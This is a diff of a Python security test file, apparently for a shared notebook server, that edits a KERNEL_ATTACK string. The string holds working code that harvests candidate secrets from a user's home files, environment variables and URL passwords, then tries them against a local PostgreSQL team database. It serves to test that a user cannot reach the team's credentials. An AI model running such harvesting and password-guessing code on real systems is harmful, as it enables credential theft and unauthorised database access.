@@ -137,34 +137,47 @@ def test_no_file_under_alices_home_holds_the_secrets(
 
 KERNEL_ATTACK = r"""
 import json, os, pathlib, re
+from urllib.parse import urlsplit
 import psycopg
 
-def candidates():
-    found = set(os.environ.values())
-    home = pathlib.Path.home()
-    for path in home.rglob("*"):
+WORD = re.compile(r"[^\s\"'<>;,/:@=&?]{6,200}")
+URL = re.compile(r"\w+://[^\s\"'<>]+")
+
+def candidates(limit=1500):
+    texts = list(os.environ.values())
+    for path in pathlib.Path.home().rglob("*"):
         try:
             if path.is_file() and path.stat().st_size <= 1_000_000:
-                text = path.read_bytes().decode("utf-8", "replace")
-                found.update(re.findall(r"[\w.~+/=:@-]{6,200}", text))
+                texts.append(path.read_bytes().decode("utf-8", "replace"))
         except OSError:
             pass
-    return sorted(v for v in found if 0 < len(v) <= 200)[:400]
+    found = {}  # first seen first: passwords of URLs, then the environment, then files
+    for text in texts:
+        for url in URL.findall(text):
+            try:
+                password = urlsplit(url).password
+            except ValueError:
+                password = None
+            if password:
+                found.setdefault(password, None)
+    for text in texts:
+        for word in WORD.findall(text):
+            found.setdefault(word, None)
+    return list(found)[:limit]
 
 def attempt(passwords, port, socket_dir):
     ok = []
-    for host in ("127.0.0.1", socket_dir):
-        for user in ("oui", "postgres", os.environ.get("JUPYTERHUB_USER", "alice")):
-            for password in [None, *passwords]:
-                try:
-                    psycopg.connect(host=host, port=port, dbname="oui_team", user=user,
-                                    password=password, connect_timeout=5).close()
-                except psycopg.OperationalError as exc:
-                    if "password" not in str(exc) and "authentication" not in str(exc):
-                        ok.append(("error", user, str(exc)[:200]))
-                else:
-                    ok.append(("in", host, user))
-                    break
+    tries = [("127.0.0.1", p) for p in [None, *passwords]] + [(socket_dir, None)]
+    for host, password in tries:
+        for user in ("oui", "postgres"):
+            try:
+                psycopg.connect(host=host, port=port, dbname="oui_team", user=user,
+                                password=password, connect_timeout=5).close()
+            except psycopg.OperationalError as exc:
+                if "password" not in str(exc) and "authentication" not in str(exc):
+                    ok.append(("error", user, str(exc)[:200]))
+            else:
+                ok.append(["in", host, user])
     return ok
 """
 
